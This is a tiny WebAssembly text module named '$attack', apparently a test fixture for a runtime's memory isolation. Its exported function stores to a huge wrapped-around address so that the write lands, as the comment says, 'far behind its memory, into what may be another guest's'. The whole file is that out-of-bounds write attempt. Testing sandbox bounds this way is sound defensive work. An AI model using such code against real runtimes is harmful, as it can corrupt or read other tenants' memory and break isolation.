;; Writes far behind its memory, into what may be another guest's.
(module $attack
  (import "mem" "memory" (memory 1))
  (import "mem" "realloc" (func $realloc (param i32 i32 i32 i32) (result i32)))
  (func (export "call") (param i32) (result i32)
    (i64.store offset=0xfffffff0 (i32.const -8) (i64.const -1))
    i32.const 256)
  (export "realloc" (func $realloc)))
